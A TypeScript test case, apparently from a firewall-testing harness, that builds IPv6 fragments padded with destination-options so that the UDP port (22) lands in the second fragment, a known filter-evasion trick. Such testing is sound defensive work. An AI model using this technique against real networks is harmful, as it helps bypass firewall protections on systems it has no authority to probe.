import type { Attack } from '../../prove/attack.ts'
import { PROTOCOL } from '../../prove/frame.ts'
import { EXTENSION, fragmentsOf, optionHeader, udp } from '../../prove/packet.ts'

export default {
  tries: 'fills the first fragment with options, so that the port comes in the second',
  assumes: ['net_raw'],
  run: async ({ packet, own, sourcePort, payload, number, open, ask, name }) => {
    await ask(name('open'), 'AAAA')
    const ends = { source: own[6], destination: open[6], sourcePort, destinationPort: 22 }
    const options = optionHeader(EXTENSION.destination, new Uint8Array(36))
    const content = Buffer.concat([Uint8Array.of(PROTOCOL.udp), options.octets, udp(ends, payload)])
    for (const each of fragmentsOf({ ...ends, protocol: EXTENSION.destination }, content, 40, number)) packet(each)
  },
} satisfies Attack
